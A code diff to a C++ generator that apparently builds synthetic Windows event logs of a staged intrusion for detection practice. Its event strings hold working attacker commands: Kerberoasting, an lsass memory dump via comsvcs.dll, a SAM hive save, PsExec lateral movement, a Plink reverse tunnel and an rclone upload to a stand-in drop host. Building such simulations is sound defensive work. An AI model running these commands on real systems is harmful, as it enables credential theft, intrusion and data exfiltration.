@@ -29,7 +29,7 @@ constexpr const char* kEncodedCradle =
 
 EvtxEvent run(const Host& host, std::int64_t time, const std::string& image,
               const std::string& command, const std::string& parent, const std::string& user,
-              const std::string& integrity = "High") {
+              const std::string& integrity = "High", const std::string& original_name = "") {
   Process p;
   p.image = image;
   p.command = command;
@@ -37,6 +37,9 @@ EvtxEvent run(const Host& host, std::int64_t time, const std::string& image,
   p.parent_command = "\"" + parent + "\"";
   p.user = user;
   p.integrity = integrity;
+  // A tool that goes by another name keeps its own inside, and is not Microsoft's.
+  p.original_name = original_name;
+  if (!original_name.empty()) p.company = "-";
   return process_start(host, time, p);
 }
 
@@ -104,6 +107,10 @@ void add_discovery(Events& events) {
 
 // 4 March: tickets of service accounts, to be broken at leisure.
 void add_kerberoasting(Events& events) {
+  events.push_back(script_block(kWorkstation, at(2, 14, 19, 50),
+                                "Invoke-Kerberoast -OutputFormat hashcat | "
+                                "Out-File $env:TEMP\\k.txt",
+                                "", "m.okafor"));
   int second = 10;
   for (const char* service : {"svc-billing", "svc-mediation", "svc-sql"}) {
     events.push_back(
@@ -143,7 +150,7 @@ void add_jump_host(Events& events) {
       "DWORD (0x00000001)", kMediation));
   events.push_back(run(host, at(4, 1, 25), system32("rundll32.exe"),
                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 648 "
-                       "C:\\ProgramData\\Tel\\l.dmp full",
+                       "C:\\ProgramData\\Tel\\lsass.dmp full",
                        kPowerShell, kMediation));
   events.push_back(process_access(
       host, at(4, 1, 25, 1), system32("rundll32.exe"), system32("lsass.exe"), "0x1fffff",
@@ -153,7 +160,7 @@ void add_jump_host(Events& events) {
   events.push_back(run(host, at(4, 1, 31), system32("reg.exe"),
                        "reg save HKLM\\SAM C:\\ProgramData\\Tel\\s.hiv", kCmd, kMediation));
   events.push_back(run(host, at(4, 1, 33), system32("rundll32.exe"), system32("rundll32.exe"),
-                       kHelper, kMediation));
+                       kPowerShell, kMediation));
 }
 
 // 9 and 10 March: from the jump host to the billing server by three ways.
@@ -161,7 +168,7 @@ void add_lateral_movement(Events& events) {
   const std::string psexec = "C:\\ProgramData\\Tel\\ps64.exe";
   events.push_back(run(kJump, at(7, 2, 5), psexec,
                        psexec + " -accepteula \\\\bill01 -u NORTHLIGHT\\svc-billing -s cmd.exe",
-                       kCmd, kMediation));
+                       kCmd, kMediation, "High", "psexec.c"));
   events.push_back(explicit_credentials(kJump, at(7, 2, 5, 1), "svc-mediation", "svc-billing",
                                         "bill01", psexec));
   events.push_back(share_access(kBilling, at(7, 2, 5, 2), "svc-billing", kJump.address,
@@ -263,7 +270,7 @@ void add_collection(Events& events) {
                        kCmd, "NORTHLIGHT\\svc-hlrsync"));
   events.push_back(run(kJump, at(14, 1, 36), "C:\\ProgramData\\Tel\\pl.exe",
                        "pl.exe -ssh -N -R 8022:192.0.2.50:22 tel@203.0.113.77", kCmd,
-                       "NORTHLIGHT\\svc-hlrsync"));
+                       "NORTHLIGHT\\svc-hlrsync", "High", "Plink"));
   events.push_back(logon(kHlr, at(14, 1, 44), 10, "svc-hlrsync", kJump.address, "HLROAM01"));
   events.push_back(
       process_start_4688(kHlr, at(14, 1, 52), "svc-hlrsync", "C:\\HLR\\bin\\subexport.exe",
@@ -281,7 +288,7 @@ void add_collection(Events& events) {
   events.push_back(run(kBilling, at(16, 1, 5), "C:\\ProgramData\\Tel\\rc.exe",
                        "rc.exe copy C:\\ProgramData\\Tel\\u.7z drop:in --config "
                        "C:\\ProgramData\\Tel\\rc.conf --transfers 2 --bwlimit 2M",
-                       kCmd, "NORTHLIGHT\\svc-hlrsync"));
+                       kCmd, "NORTHLIGHT\\svc-hlrsync", "High", "rclone.exe"));
   events.push_back(connection(kBilling, at(16, 1, 5, 2), "C:\\ProgramData\\Tel\\rc.exe",
                               "NORTHLIGHT\\svc-hlrsync", kDropAddress, "files.drop.example.org",
                               443));
